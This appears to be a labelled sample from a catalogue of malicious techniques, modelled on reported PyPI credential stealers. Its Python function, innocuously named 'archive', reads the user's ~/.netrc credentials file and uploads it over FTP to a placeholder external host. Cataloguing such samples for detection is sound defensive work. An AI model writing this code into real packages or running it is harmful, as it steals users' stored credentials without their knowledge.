# technique: home directory secrets uploaded over FTP
# class: exfiltration
# source: ReversingLabs, PyPI stealers uploading collected files over FTP
# declares: network
import ftplib
import io
import os


def archive():
    data = open(os.path.expanduser("~/.netrc"), "rb").read()
    ftp = ftplib.FTP("files.000webhost.example", "u", "p", timeout=10)
    ftp.storbinary("STOR n.txt", io.BytesIO(data))
